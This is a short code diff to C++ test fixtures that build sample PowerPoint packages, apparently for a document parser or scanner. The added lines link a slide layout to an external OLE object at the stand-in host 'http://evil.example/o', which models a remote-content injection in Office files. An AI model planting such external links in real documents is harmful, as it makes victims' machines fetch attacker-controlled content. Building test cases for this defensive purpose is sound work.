@@ -574,7 +574,9 @@ std::span<const Sample> slide_samples() {
          B b = master("", "l", "sldLayout", "O:slideLayout", "V:presentationml.slideLayout+xml");
          b.part("ppt/media/image9.png", "V:vmlDrawing",
                 "<xml xmlns:v=\"urn:schemas-microsoft-com:vml\"><v:shape id=\"s\"/></xml>");
-         return b.relate("ppt/m/l.xml", "rId8", "O:vmlDrawing", "/ppt/media/image9.png").build();
+         return b.relate("ppt/m/l.xml", "rId8", "O:vmlDrawing", "/ppt/media/image9.png")
+             .relate("ppt/m/l.xml", "rId9", "O:oleObject", "http://evil.example/o", true)
+             .build();
        }},
   };
   return samples;
